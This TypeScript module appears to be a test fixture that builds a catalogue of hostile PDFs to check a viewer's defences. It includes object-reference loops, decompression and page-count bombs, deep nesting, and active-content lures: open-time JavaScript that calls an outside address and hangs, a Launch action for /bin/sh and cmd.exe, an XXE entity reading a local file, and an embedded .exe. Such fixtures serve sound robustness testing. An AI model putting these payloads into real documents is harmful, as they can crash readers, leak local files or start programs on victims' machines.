import { packedStream, pdfOf, shown, stream } from "./pdf-of.ts";

/** Where a hostile file tries to lead: a file with words that nobody may see, and an address that nobody may ask. */
export interface Lures {
  readonly secret: string;
  readonly address: string;
}

/** PDFs that are made to harm whoever opens them, each with what it does. */
export function hostilePdfs(lures: Lures): Readonly<Record<string, Uint8Array>> {
  return { ...loops, ...floods, ...actions(lures) };
}

const loops: Readonly<Record<string, Uint8Array>> = {
  "a page tree that is its own child": pdfOf({ pages: "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>" }),
  "a page that is its own parent": pdfOf({ page: "/Parent 3 0 R/Kids[3 0 R]" }),
  "a form that draws itself": pdfOf({
    content: stream("", "/X1 Do"),
    more: [
      stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X1 6 0 R>>>>", "/X1 Do /X1 Do"),
    ],
  }),
  "forms that draw ten of the next, ten deep": pdfOf({
    content: stream("", "/X1 Do"),
    more: Array.from({ length: 10 }, (_, i) =>
      stream(
        `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X1 ${7 + i} 0 R>>>>`,
        "/X1 Do ".repeat(10),
      ),
    ),
  }),
  "a length that is its own stream": pdfOf({
    content: `<</Length 4 0 R>>stream\n${shown("words")}\nendstream`,
  }),
  "a table of objects that follows itself": pdfOf({ trailer: "/Prev HERE" }),
  "a stream of objects that holds itself": pdfOf({
    more: [stream("/Type/ObjStm/N 1/First 4/Extends 6 0 R", "6 0 <</Type/ObjStm>>")],
  }),
  "an outline that goes in a circle": pdfOf({
    catalogue: "/Outlines 6 0 R",
    more: ["<</First 7 0 R/Last 7 0 R/Count 9>>", "<</Title(a)/Next 7 0 R/Parent 6 0 R/First 6 0 R>>"],
  }),
  "a font that draws itself": pdfOf({
    page: "/Resources<</Font<</F1 6 0 R>>>>",
    more: [
      "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]/Encoding<</Differences[65/A]>>/CharProcs<</A 7 0 R>>/Resources<</Font<</F1 6 0 R>>>>>>",
      stream("", "BT /F1 9 Tf (A) Tj ET"),
    ],
  }),
};

const floods: Readonly<Record<string, Uint8Array>> = {
  "a million pages in one list": pdfOf({
    pages: `<</Type/Pages/Kids[${"3 0 R ".repeat(1_000_000)}]/Count 1000000>>`,
  }),
  "a million pages by lists of lists": pdfOf({
    pages: `<</Type/Pages/Kids[${"6 0 R ".repeat(100)}]/Count 1000000>>`,
    more: [
      `<</Type/Pages/Parent 2 0 R/Kids[${"7 0 R ".repeat(100)}]/Count 10000>>`,
      `<</Type/Pages/Parent 6 0 R/Kids[${"3 0 R ".repeat(100)}]/Count 100>>`,
    ],
  }),
  "a page count that is a lie": pdfOf({ pages: "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>" }),
  "a content of 200 MB in 200 kB": pdfOf({
    content: packedStream("", Buffer.alloc(200 << 20, `${shown("a")} `)),
  }),
  "a content packed a hundred times over": pdfOf({
    content: stream(`/Filter[${"/FlateDecode".repeat(100)}]`, "x"),
  }),
  "a content that is a hundred thousand times the same": pdfOf({
    page: `/Contents[${"4 0 R ".repeat(100_000)}]`,
  }),
  "an image of ten thousand million pixels": pdfOf({
    content: stream("", "/X1 Do"),
    more: [
      packedStream(
        "/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB",
        Buffer.alloc(1 << 20),
      ),
    ],
  }),
  "brackets a million deep": pdfOf({ page: `/Deep ${"[".repeat(1_000_000)}` }),
  "dictionaries a hundred thousand deep": pdfOf({ page: `/Deep ${"<</A".repeat(100_000)}` }),
  "brackets in the content a million deep": pdfOf({ content: stream("", `${"[".repeat(1_000_000)} TJ`) }),
  "a line of five million letters": pdfOf({ content: stream("", shown("a".repeat(5_000_000))) }),
  "a page without bounds": pdfOf({
    page: "/MediaBox[-1e38 -1e38 1e38 1e38]/UserUnit 1e30/Rotate 2147483647",
  }),
  "letters of every size at every place": pdfOf({
    content: stream(
      "",
      `BT ${Array.from({ length: 60_000 }, (_, i) => `/F1 ${(i * 7) % 50} Tf 1 0 0 1 ${(i * 13) % 612} ${(i * 29) % 792} Tm (a) Tj`).join(" ")} ET`,
    ),
  }),
};

function actions({ secret, address }: Lures): Readonly<Record<string, Uint8Array>> {
  const script = `app.launchURL('${address}');this.submitForm('${address}');while(true){}`;
  const file = `<</Type/Filespec/F(${secret})/UF(${secret})/EF<</F 6 0 R>>>>`;
  return {
    "a script that runs when it is opened": pdfOf({
      catalogue: `/OpenAction<</S/JavaScript/JS(${script})>>`,
    }),
    "a script on the page": pdfOf({ page: `/AA<</O<</S/JavaScript/JS(${script})>>>>` }),
    "a program to be started": pdfOf({ catalogue: `/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>` }),
    "an address to be asked": pdfOf({ catalogue: `/OpenAction<</S/URI/URI(${address})>>` }),
    "a file elsewhere to be opened": pdfOf({ catalogue: `/OpenAction<</S/GoToR/F(${secret})/D[0/Fit]>>` }),
    "a form with an external entity": pdfOf({
      catalogue: "/AcroForm<</Fields[]/XFA 6 0 R>>",
      more: [
        stream("", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}">]><x>&e;</x>`),
      ],
    }),
    "a content that lies in another file": pdfOf({
      content: `<</Length 0/F(${secret})>>stream\n\nendstream`,
    }),
    "an attachment, which is a program": pdfOf({
      catalogue: `/Names<</EmbeddedFiles<</Names[(a.exe)${file}]>>>>`,
      more: [stream("/Type/EmbeddedFile", "MZ")],
    }),
  };
}
